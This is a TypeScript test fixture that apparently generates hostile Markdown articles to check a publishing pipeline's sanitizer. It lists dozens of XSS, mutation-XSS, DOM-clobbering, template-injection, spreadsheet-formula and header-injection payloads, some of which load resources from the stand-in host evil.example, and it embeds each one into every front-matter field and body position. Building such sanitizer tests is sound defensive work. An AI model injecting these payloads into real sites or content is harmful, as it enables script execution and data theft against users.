/** What sets `window.hacked` wherever it runs, loads from `evil.example` wherever it loads, or breaks out of a place. */
export const payloads: Readonly<Record<string, string>> = {
  script: "<script>window.hacked=1</script>",
  "script, split": "<scr<script>ipt>window.hacked=1</scr</script>ipt>",
  "script from elsewhere": "<script src=//evil.example/x.js></script>",
  "script end": "</script><script>window.hacked=1</script>",
  "script module": '<script type="module">window.hacked=1</script>',
  "image error": "<img src=x onerror=window.hacked=1>",
  "attribute end": '"><img src=x onerror=window.hacked=1>',
  "attribute end, single": "'><img src=x onerror=window.hacked=1>",
  "attribute, unquoted": "x onmouseover=window.hacked=1 autofocus onfocus=window.hacked=1",
  "attribute, quoted": '" autofocus onfocus="window.hacked=1" x="',
  "svg load": "<svg onload=window.hacked=1>",
  "svg animate": "<svg><animate onbegin=window.hacked=1 attributeName=x dur=1s>",
  "svg use": '<svg><use href="//evil.example/x.svg#a"/></svg>',
  "details toggle": "<details open ontoggle=window.hacked=1>x</details>",
  "body load": "<body onload=window.hacked=1>",
  "video source": "<video><source onerror=window.hacked=1></video>",
  "iframe document": '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
  "iframe address": '<iframe src="javascript:parent.hacked=1"></iframe>',
  object: '<object data="//evil.example/x"></object><embed src="//evil.example/y">',
  "style import": "<style>@import url(//evil.example/x.css);</style>",
  "style attribute": '<p style="background:url(//evil.example/x)">x</p>',
  "style sheet": '<link rel=stylesheet href="//evil.example/x.css">',
  prefetch: '<link rel=prefetch href="//evil.example/x"><link rel=dns-prefetch href="//evil.example">',
  "picture from elsewhere": '<img src="//evil.example/x.png" srcset="//evil.example/y.png 2x">',
  "picture of Markdown": "![x](https://evil.example/x.png)",
  "sound from elsewhere": '<audio autoplay src="//evil.example/x.mp3"></audio>',
  refresh: '<meta http-equiv=refresh content="0;url=//evil.example/">',
  base: '<base href="//evil.example/">',
  form: '<form action="//evil.example/"><input name=q autofocus onfocus=window.hacked=1><button formaction="javascript:window.hacked=1">go</button></form>',
  "link, script": "[x](javascript:window.hacked=1) <a href='javascript:window.hacked=1'>y</a>",
  "link, script hidden":
    "[x](java&#10;script&colon;window.hacked=1) <a href=' &#1;javascript:window.hacked=1'>y</a>",
  "link, data": "[x](data:text/html,<script>opener.hacked=1</script>)",
  "link of an angle": "<javascript:window.hacked=1>",
  "link title": `[x](/a "\\" onmouseover=window.hacked=1 x=\\"")`,
  "comment end": "--><script>window.hacked=1</script><!--",
  "comment of old browsers": "<!--[if true]><script>window.hacked=1</script><![endif]-->",
  cdata: "]]><script xmlns='http://www.w3.org/1999/xhtml'>window.hacked=1</script><![CDATA[",
  "mutation by math":
    '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=window.hacked=1>">',
  "mutation by noscript": '<noscript><p title="</noscript><img src=x onerror=window.hacked=1>">',
  "mutation by textarea": "<textarea></textarea><img src=x onerror=window.hacked=1></textarea>",
  "mutation by title": "</title><img src=x onerror=window.hacked=1>",
  "mutation by template": "<template><img src=x onerror=window.hacked=1></template>",
  clobbering:
    "<form id=documentElement><input name=getElementById id=body></form><a id=location name=cookie>x</a>",
  "template braces": "{{ 7 * 7 }}{% raw %}{{ range.constructor('return process')() }}{% endraw %}",
  "template include": "{% include '/etc/passwd' %}{% extends '/etc/passwd' %}",
  "template percent": "<%= process.env.HOME %> <% throw 1 %>#{7*7}",
  formula: '=HYPERLINK("//evil.example","x")',
  "formula, command": "@SUM(1+1)*cmd|' /C calc'!A0",
  "line ends": "a\r\nX-Header: 1\u2028window.hacked=1\u2029",
  "direction override": "abc\u202egnp.exe\u2066",
  "control characters": "a\u0001\u000b\u001b[31m\u007f\ufffe",
  entities: "&lt;img src=x onerror=window.hacked=1&gt; &amp;lt; &#0; &#x110000;",
};

/** Places in the front matter; the payload is written as a YAML string. */
const fields: Readonly<Record<string, (value: string) => string>> = {
  title: (value) => `title: ${value}`,
  standfirst: (value) => `standfirst: ${value}`,
  author: (value) => `author: [${value}]`,
  section: (value) => `section: ${value}`,
  tags: (value) => `tags: [${value}]`,
  places: (value) => `places: [${value}]`,
  series: (value) => `series: ${value}`,
  site: (value) => `site: ${value}`,
  caption: (value) => `caption: ${value}`,
  credit: (value) => `credit: ${value}`,
  alt: (value) => `alt: ${value}`,
  license: (value) => `license: ${value}`,
  corrections: (value) => `corrections: [{ date: 2026-02-07, was: ${value}, now: ${value}, why: ${value} }]`,
  aliases: (value) => `aliases: [${value}]`,
  keep: (value) => `keep: [${value}]`,
};

/** Places in the body. */
const places: Readonly<Record<string, (value: string) => string>> = {
  paragraph: (value) => `Words ${value} words.`,
  block: (value) => value,
  heading: (value) => `## A ${value}`,
  emphasis: (value) => `**a ${value}** and *b ${value}*`,
  "link text": (value) => `[a ${value}](/b)`,
  "link address": (value) => `[a](<${value.replace(/[<>\n]/g, "")}>)`,
  "link title": (value) => `[a](/b '${value.replaceAll("'", "&#39;")}')`,
  reference: (value) => `[a][r]\n\n[r]: <${value.replace(/[<>\n]/g, "")}> "t"`,
  "picture words": (value) => `![a ${value}](b.png)`,
  "picture address": (value) => `![a](<${value.replace(/[<>\n]/g, "")}>)`,
  quote: (value) => `> a ${value}`,
  list: (value) => `- a ${value}\n- [ ] b ${value}`,
  cell: (value) => `| a |\n|---|\n| ${value.replaceAll("|", "\\|").replaceAll("\n", " ")} |`,
  code: (value) => `\`a ${value}\``,
  "code block": (value) => `\`\`\`x${value.replaceAll("\n", " ").replaceAll("`", "")}\n${value}\n\`\`\``,
  footnote: (value) => `a[^1]\n\n[^1]: b ${value}`,
  speaker: (value) => `“We will stay where we are,” said Mara ${value} Quay, the harbour master.`,
  quotation: (value) => `“We will ${value} stay where we are,” Mara Quay said.`,
  "html attribute": (value) => `<p id="${value.replaceAll('"', "&quot;")}" title="${value}">a</p>`,
  "html text": (value) => `<div>a ${value} b</div>`,
};

export interface HostileArticle {
  readonly name: string;
  readonly source: string;
}

const yaml = (text: string) => JSON.stringify(text);
const body = "“We will stay where we are until the water falls,” Mara Quay said.\n";

/** One article a payload and a place; `grouped`, one a payload with all places of the front matter, one with all of the body. */
export function hostileArticles(grouped: boolean): readonly HostileArticle[] {
  return Object.entries(payloads).flatMap(([kind, payload], number) => {
    const all = grouped
      ? [Object.keys(fields), Object.keys(places)]
      : [...Object.keys(fields), ...Object.keys(places)].map((place) => [place]);
    return all.map((names, index) => {
      const lines = names.flatMap((name) => fields[name]?.(yaml(payload)) ?? []);
      const blocks = names.flatMap((name) => places[name]?.(payload) ?? []);
      const title = lines.some((line) => line.startsWith("title:")) ? [] : [`title: ${yaml(kind)}`];
      const head = [
        "---",
        ...title,
        ...lines,
        `slug: case-${number}-${index}`,
        "published: 2026-02-07",
        "---",
      ];
      return {
        name: `${kind} ${number}-${index}`,
        source: `${head.join("\n")}\n${[...blocks, body].join("\n\n")}\n`,
      };
    });
  });
}
